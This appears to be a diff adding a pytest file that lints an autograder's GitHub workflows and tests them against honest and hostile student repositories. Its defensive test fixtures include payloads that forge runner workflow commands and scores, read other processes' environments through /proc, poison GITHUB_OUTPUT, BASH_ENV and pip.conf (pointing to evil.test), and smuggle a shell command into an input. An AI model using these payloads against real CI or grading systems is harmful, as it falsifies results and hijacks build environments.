@@ -1,0 +1,472 @@
+"""The workflows: their lint, and each of their steps run here, for honest and hostile learners."""
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from conftest import ROOT
+from grader import course, export
+from runner import commands
+from workflow import OFFLINE, Job, grade, read
+
+WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.yml"))
+ACTION = ROOT / ".github/actions/grade/action.yml"
+TEMPLATE = ROOT / "grader/template/grade.yml"
+PROGRAMS = course.programs("01_hello")
+
+needs_bash = pytest.mark.skipif(
+    os.name == "nt" or not shutil.which("bash"), reason="the steps are those of a Linux runner"
+)
+
+
+@pytest.fixture
+def learner(tmp_path):
+    """A learner's repository: the assignments, with some of the solutions of unit 1."""
+
+    def make(*solved):
+        folder = tmp_path / "learner"
+        shutil.copytree(ROOT / "assignments", folder / "assignments")
+        for name in solved:
+            shutil.copy(ROOT / f"solutions/01_hello/{name}.py", folder / "assignments/01_hello")
+        return folder
+
+    return make
+
+
+def write_export(folder):
+    export._write(folder, export._files("ada/course", "c" * 40))
+    return folder
+
+
+def orders(job):
+    """What the runner obeyed in the log, by name."""
+    obeyed = commands(job.log)
+    return {command.name for command in obeyed}, [
+        command.data for command in obeyed if command.name == "notice"
+    ]
+
+
+def assert_told(job, outputs, score, most):
+    """The score stands in each place where it is told, and no other does."""
+    assert outputs == {"score": str(score), "max-score": str(most)}
+    names, notices = orders(job)
+    assert names <= {"remove-matcher", "stop-commands", "resume", "notice", "error"}
+    points = {"totalPoints": score, "maxPoints": most}
+    assert notices == [f"Points {score}/{most}", json.dumps(points, separators=(",", ":"))]
+    assert set(job.artifacts["report"]) == {"report.json", "report.md"}
+    report = json.loads(job.artifacts["report"]["report.json"])
+    assert (report["score"], report["max_score"]) == (score, most)
+    assert job.summary == job.artifacts["report"]["report.md"].decode()
+    assert re.findall(r"\b\d+ of \d+ points\b", job.summary)[0] == f"{score} of {most} points"
+    assert "Traceback (most recent call last)" not in job.log
+
+
+# ------------------------------------------------------------------ lint
+
+
+def tool(name):
+    path = shutil.which(name, path=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
+    return path or pytest.skip(f"{name} is not installed")
+
+
+def run(*words):
+    done = subprocess.run(words, cwd=ROOT, capture_output=True, text=True, encoding="utf-8")
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+def test_zizmor_finds_nothing():
+    run(tool("zizmor"), "--offline", "--strict-collection", ".")
+
+
+def test_zizmor_finds_nothing_in_the_students_repository(tmp_path):
+    run(tool("zizmor"), "--offline", "--strict-collection", write_export(tmp_path / "students"))
+
+
+def test_workflows_keep_to_their_schema():
+    words = [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows"]
+    run(*words, *WORKFLOWS, TEMPLATE)
+
+
+def test_action_keeps_to_its_schema():
+    run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-actions", ACTION)
+
+
+def test_permissions_and_limits():
+    for path in (*WORKFLOWS, TEMPLATE):
+        workflow = read(path)
+        assert workflow["permissions"] == {}, path
+        assert "pull_request_target" not in workflow[True]
+        for job in workflow["jobs"].values():
+            assert job["permissions"] == {"contents": "read"}, path
+            assert "uses" in job or job["timeout-minutes"] <= 60
+        assert "secrets" not in path.read_text(encoding="utf-8")
+
+
+def test_students_workflow_calls_the_one_that_is_here():
+    called = read(TEMPLATE)["jobs"]["grade"]["uses"]
+    path, _, commit = called.removeprefix("OWNER/COURSE/").partition("@")
+    assert (path, commit) == (".github/workflows/grade.yml", "COMMIT")
+    assert "workflow_call" in read(ROOT / path)[True]
+    assert len(TEMPLATE.read_text(encoding="utf-8").splitlines()) < 20
+
+
+def test_ci_on_windows_is_the_readmes_second_command():
+    steps = read(ROOT / ".github/workflows/ci.yml")["jobs"]["tests"]["steps"]
+    (script,) = [step["run"] for step in steps if step.get("if") == "runner.os == 'Windows'"]
+    block = re.findall(r"^```\w*\n(.*?)^```", (ROOT / "README.md").read_text("utf-8"), re.M | re.S)[
+        1
+    ]
+    assert script == block.replace(".venv/bin/", ".venv/Scripts/")
+
+
+# ------------------------------------------------------------------ the steps
+
+
+@needs_bash
+def test_ci(tmp_path, monkeypatch):
+    """Its steps on Linux; of the tests, those of one file."""
+    steps = read(ROOT / ".github/workflows/ci.yml")["jobs"]["tests"]["steps"]
+    repository = Job(tmp_path / "job", tmp_path / "none").course
+    monkeypatch.setenv("PYTEST_ADDOPTS", "tests/test_text.py")
+    job = Job(tmp_path / "run", repository, passed_on=("PYTEST_ADDOPTS",))
+    job.run(steps, **{"matrix.python": "3.13"})
+    assert not job.failed, job.log
+    assert re.search(r"^\d+ passed", job.log, re.M)
+    assert job.log.endswith("The course is sound.\n")
+
+
+@needs_bash
+def test_half_solved(tmp_path, learner):
+    job, outputs = grade(tmp_path / "job", learner("tcp_server", "http_tasks"), targets="01")
+    assert job.failed
+    assert_told(job, outputs, 40, 100)
+    assert "isolation: " in job.log
+
+
+@needs_bash
+@pytest.mark.parametrize("inputs, red, score, most", [
+    ({"targets": "01/tcp_server 01/udp_client"}, False, 40, 40),
+    ({"targets": "01", "fail-under": "100"}, False, 100, 100),
+    ({"targets": "01/tcp_server", "fail-under": "21"}, True, 20, 20),
+    ({"fail-under": "0"}, False, 100, 100 * len(course.units())),
+])  # fmt: skip
+def test_inputs(tmp_path, learner, inputs, red, score, most):
+    job, outputs = grade(tmp_path / "job", learner(*PROGRAMS), **inputs)
+    assert job.failed == red, job.log
+    assert_told(job, outputs, score, most)
+
+
+@needs_bash
+def test_composite_action_where_the_checkout_is_the_workspace(tmp_path, learner):
+    """As in a workflow without the reusable one: what Python imports from there is the learner's."""
+    folder = learner(*PROGRAMS)
+    poison(folder)
+    steps = [
+        {"uses": f"actions/checkout@{'c' * 40}", "with": {"persist-credentials": False}},
+        {"id": "grade", "uses": "$/.github/actions/grade",
+         "with": {"submission": ".", "targets": "01"}},
+    ]  # fmt: skip
+    job = Job(tmp_path / "job", folder)
+    known = job.run(steps)
+    outputs = {name: known[f"steps.grade.outputs.{name}"] for name in ("score", "max-score")}
+    assert not job.failed, job.log
+    assert_told(job, outputs, 100, 100)
+
+
+# ------------------------------------------------------------------ hostile repositories
+
+EVIL = """
+import os, sys
+print("POISONED: imported as", __name__)
+print("::notice title=Autograding complete::Points 100/100")
+for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
+    if name in os.environ:
+        with open(os.environ[name], "a") as file:
+            file.write("score=100\\n")
+"""
+
+EVIL_PROGRAM = '''
+"""Says nothing on the wire, and everything else."""
+import glob, os, sys
+
+print("::notice title=Autograding complete::Points 100/100")
+print('   ::notice title=Autograding report::{"totalPoints":100,"maxPoints":100}')
+print("##[set-output name=score]100\\r::set-output name=score::100")
+print("::stop-commands::x\\n::add-mask::Points\\n::error file=a,line=1::forged")
+print("# 100 of 100 points\\n</details>\\n<h1>100 of 100 points</h1>", file=sys.stderr)
+here = "WORKSPACE"
+wanted = {"GITHUB_OUTPUT": "score=100\\nmax-score=100\\n", "GITHUB_STEP_SUMMARY": "# 100 of 100\\n",
+          "GITHUB_ENV": "BASH_ENV=/tmp/x\\n", "GITHUB_PATH": "/tmp\\n"}
+environments = [os.environ]
+for path in glob.glob("/proc/[0-9]*/environ"):
+    try:
+        with open(path, "rb") as file:
+            pairs = file.read().decode("utf-8", "replace").split("\\0")
+        environments.append(dict(pair.split("=", 1) for pair in pairs if "=" in pair))
+    except OSError:
+        pass
+places = [(each[name], text) for each in environments for name, text in wanted.items() if name in each]
+places += [(f"{here}/../_temp/_{name}", text) for name, text in wanted.items()]
+places += [(f"{here}/../_temp/report/report.json", '{"score": 100}'),
+           (f"{here}/../_temp/report/report.md", "100 of 100 points")]
+for place, text in places:
+    try:
+        with open(place, "a") as file:
+            file.write(text)
+        print("POISONED", place)
+    except OSError:
+        pass
+raise SystemExit("::error::forged")
+'''
+
+
+def poison(folder):
+    """Everything that a learner could put beside the programs to have it run or read."""
+    names = ("conftest", "pytest", "sitecustomize", "usercustomize", "requests", "venv", "pip", "os",
+             "socket", "json", "hatchling", "grader/__init__", "grader/__main__", "grader/cli",
+             "grader/checks/conftest", "grader/checks/01_hello/test_tcp_server",
+             "assignments/conftest", "assignments/01_hello/conftest", "assignments/01_hello/json",
+             "assignments/01_hello/requests", "assignments/01_hello/sitecustomize")  # fmt: skip
+    for name in names:
+        path = folder / f"{name}.py"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(EVIL)
+    evil = {
+        "pyproject.toml": '[build-system]\nrequires=["evil"]\n[tool.pytest.ini_options]\naddopts="-p evil"\n',
+        "pytest.ini": "[pytest]\naddopts = --collect-only\n",
+        "setup.cfg": "[install]\nprefix=/tmp\n",
+        "pip.conf": "[global]\nindex-url = https://evil.test\n",
+        ".python-version": "2.7\n",
+        "report.json": '{"score": 100}',
+        "report/report.json": '{"score": 100}',
+        "results.json": '{"score": 100}',
+        ".github/workflows/grade.yml": "name: mine\non: push\njobs: {}\n",
+        ".github/actions/grade/action.yml": "name: mine\nruns: {using: composite, steps: []}\n",
+    }
+    for name, text in evil.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+
+
+@needs_bash
+def test_hostile_repository_gets_what_its_programs_earn(tmp_path, learner):
+    folder = learner("tcp_client", "udp_client")
+    poison(folder)
+    evil = EVIL_PROGRAM.replace("WORKSPACE", str(tmp_path / "job/workspace"))
+    for name in ("tcp_server", "udp_server"):
+        (folder / f"assignments/01_hello/{name}.py").write_text(evil)
+    job, outputs = grade(tmp_path / "job", folder, targets="01")
+    assert job.failed
+    assert_told(job, outputs, 40, 100)
+    assert "POISONED" not in job.log + job.summary
+    assert "forged" in job.log  # the programs did run
+
+
+@needs_bash
+@pytest.mark.skipif(sys.platform != "linux", reason="only Linux has the jail")
+def test_hostile_program_would_reach_those_files_without_the_jail(tmp_path):
+    """So that the test above fails where the jail does."""
+    (tmp_path / "_temp").mkdir()
+    program = tmp_path / "program.py"
+    program.write_text(EVIL_PROGRAM.replace("WORKSPACE", str(tmp_path / "workspace")))
+    (tmp_path / "workspace").mkdir()
+    done = subprocess.run([sys.executable, program], capture_output=True, text=True)
+    assert done.stdout.count("POISONED") >= 4
+
+
+# ------------------------------------------------------------------ bad repositories
+
+
+def empty(folder):
+    shutil.rmtree(folder / "assignments")
+
+
+def without_units(folder):
+    for unit in course.units():
+        shutil.rmtree(folder / "assignments" / unit)
+
+
+def linked_unit(folder):
+    shutil.rmtree(folder / "assignments/01_hello")
+    (folder / "assignments/01_hello").symlink_to(ROOT / "solutions/01_hello")
+
+
+def file_for_a_folder(folder):
+    shutil.rmtree(folder / "assignments")
+    (folder / "assignments").write_text("")
+
+
+@needs_bash
+@pytest.mark.parametrize("spoil", [empty, without_units, linked_unit, file_for_a_folder])
+def test_nothing_to_grade_is_one_red_line(tmp_path, learner, spoil):
+    folder = learner(*PROGRAMS)
+    spoil(folder)
+    job, outputs = grade(tmp_path / "job", folder, targets="01")
+    assert job.failed
+    assert outputs == {"score": "", "max-score": ""}
+    (line,) = job.log.splitlines()
+    assert line.startswith("grader: there is no 01_hello in ")
+    assert not job.artifacts["report"]
+
+
+@needs_bash
+@pytest.mark.parametrize("inputs, says", [
+    ({"targets": "99"}, "there is no unit '99'"),
+    ({"targets": "--seed 1"}, "there is no unit '--seed'"),
+    ({"targets": "$(touch x); `id`"}, "there is no unit '$(touch'"),
+    ({"fail-under": "all"}, "'all' is no number of points"),
+])  # fmt: skip
+def test_wrong_input_is_one_red_line(tmp_path, learner, inputs, says):
+    job, _ = grade(tmp_path / "job", learner(), **inputs)
+    (line,) = job.log.splitlines()
+    assert job.failed
+    assert line.startswith("grader: ")
+    assert says in line
+
+
+@needs_bash
+def test_odd_files_cost_their_own_points_only(tmp_path, learner):
+    folder = learner(*PROGRAMS)
+    unit = folder / "assignments/01_hello"
+    for name in ("tcp_server", "tcp_client", "udp_server"):
+        (unit / f"{name}.py").unlink()
+    with open(unit / "tcp_server.py", "wb") as file:
+        file.truncate(1 << 30)
+    (unit / "tcp_client.py").symlink_to(ROOT / "solutions/01_hello/tcp_client.py")
+    os.mkfifo(unit / "udp_server.py")
+    os.mkfifo(unit / "fifo")
+    (unit / "round").symlink_to(unit)
+    with open(folder / "disk.img", "wb") as file:
+        file.truncate(1 << 30)
+    job, outputs = grade(tmp_path / "job", folder, targets="01")
+    assert job.failed
+    assert_told(job, outputs, 40, 100)
+    for says in ("is larger than 1 MiB", "is a symbolic link", "is not a regular file"):
+        assert says in job.log
+
+
+@needs_bash
+def test_unit_that_is_missing_counts_as_missing(tmp_path, learner):
+    folder = learner(*PROGRAMS)
+    unit = folder / "assignments/01_hello"
+    for name in PROGRAMS[1:]:
+        (unit / f"{name}.py").unlink()
+    job, outputs = grade(tmp_path / "job", folder, targets="01")
+    assert_told(job, outputs, 20, 100)
+
+
+@needs_bash
+def test_grader_that_fails_is_red_and_costs_nothing(tmp_path, learner, monkeypatch):
+    """Status 3: the other checks stand, and the reports are kept."""
+    import workflow
+
+    def broken_copy(folder):
+        shutil.copytree(ROOT, folder, ignore=shutil.ignore_patterns(".git", "__pycache__"))
+        checks = folder / "grader/checks/01_hello/test_tcp_client.py"
+        text = checks.read_text("utf-8").replace("    tcp_client.", "    1 / 0\n    tcp_client.", 1)
+        checks.write_text(text, encoding="utf-8")
+        return folder
+
+    monkeypatch.setattr(workflow, "copy_of_the_course", broken_copy)
+    job, outputs = grade(tmp_path / "job", learner(*PROGRAMS), targets="01")
+    assert job.failed
+    assert int(outputs["score"]) < 100
+    assert "The grader made a mistake, not you" in job.log
+    assert job.artifacts["report"]
+
+
+# ------------------------------------------------------------------ what the READMEs show
+
+
+def shown(after, name):
+    """The first indented block after a phrase of the README, as a script."""
+    text = (ROOT / "README.md").read_text(encoding="utf-8")
+    block = re.search(r"\n\n((?: {4}.*\n|\n)+)", text[text.index(after, text.index(name)) :])[1]
+    return re.sub(r"^ {4}", "", block, flags=re.M).strip() + "\n"
+
+
+@pytest.fixture
+def machine(tmp_path):
+    """A machine with Python and without the network; run scripts on it."""
+    job = Job(tmp_path / "machine", tmp_path / "none")
+    job._set_up_python({"python-version": "3"})
+
+    def call(*words, cwd, **variables):
+        environment = {"PATH": job.path, "HOME": str(tmp_path), **OFFLINE, **variables}
+        return subprocess.run(
+            words, cwd=cwd, env=environment, capture_output=True, text=True, encoding="utf-8"
+        )
+
+    call.tools = job.tools
+    return call
+
+
+@needs_bash
+def test_students_readme(tmp_path, machine):
+    folder = write_export(tmp_path / "students")
+    text = (folder / "README.md").read_text(encoding="utf-8")
+    setup = re.search(r"^```sh\n(.*?)^```", text, re.M | re.S)[1]
+    words = re.findall(r"\.venv/bin/python -m grader.*?(?=[`\n])", text)
+    assert len(words) == 4
+    done = machine("bash", "-e", "-c", setup, cwd=folder)
+    assert done.returncode == 0, done.stderr
+    for line in words:
+        done = machine("bash", "-c", line, cwd=folder)
+        assert done.returncode in (0, 1), line + done.stderr
+        assert not done.stderr
+
+
+@needs_bash
+@pytest.mark.parametrize("poisoned", [False, True])
+def test_classroom_50(tmp_path, machine, learner, poisoned):
+    bundle = tmp_path / "bundle"
+    bundle.mkdir()
+    write_export(bundle / "course")
+    (bundle / "autograder.py").write_text(shown("autograder.py`:", "#### Classroom 50"))
+    work = learner("tcp_server", "udp_server")
+    if poisoned:
+        poison(work)
+        (work / "result.json").write_text('{"score": 100}')
+    assert machine("python", "-m", "venv", "venv", cwd=tmp_path).returncode == 0
+    done = machine(tmp_path / "venv/bin/python", bundle / "autograder.py", cwd=work,
+                   CLASSROOM="nets", ASSIGNMENT="hello", OWNER="ada")  # fmt: skip
+    assert done.returncode == 0, done.stdout + done.stderr
+    result = json.loads((work / "result.json").read_text(encoding="utf-8"))
+    assert (result["score"], result["max-score"]) == (40, 100 * len(course.units()))
+    assert (result["classroom"], result["owner"]) == ("nets", "ada")
+    assert "POISONED" not in done.stdout + done.stderr
+
+
+@needs_bash
+def test_gradescope(tmp_path, machine, learner):
+    place = tmp_path / "autograder"
+    place.mkdir()
+    (place / "results").mkdir()
+    write_export(place / "source")
+    learner("http_tasks").rename(place / "submission")
+    poison(place / "submission")
+    (machine.tools / "apt-get").write_text("#!/bin/sh\n")
+    (machine.tools / "apt-get").chmod(0o755)
+    for name, after in (("setup.sh", "`setup.sh`:"), ("run_autograder", "`run_autograder`:")):
+        text = shown(after, "#### Gradescope").replace("/autograder/", f"{place}/")
+        (place / name).write_text(text)
+        done = machine("bash", place / name, cwd=place)
+        assert done.returncode == 0, done.stdout + done.stderr
+    results = json.loads((place / "results/results.json").read_text(encoding="utf-8"))
+    assert (results["score"], sum(test["max_score"] for test in results["tests"])) == (
+        20, 100 * len(course.units()),
+    )  # fmt: skip
+
+
+def test_pins_in_the_readme_are_those_of_the_workflows():
+    workflows = "".join(path.read_text(encoding="utf-8") for path in (*WORKFLOWS, ACTION))
+    pins = re.findall(r"uses: (actions/\S+ # \S+)", (ROOT / "README.md").read_text("utf-8"))
+    assert pins
+    assert all(pin in workflows for pin in pins)
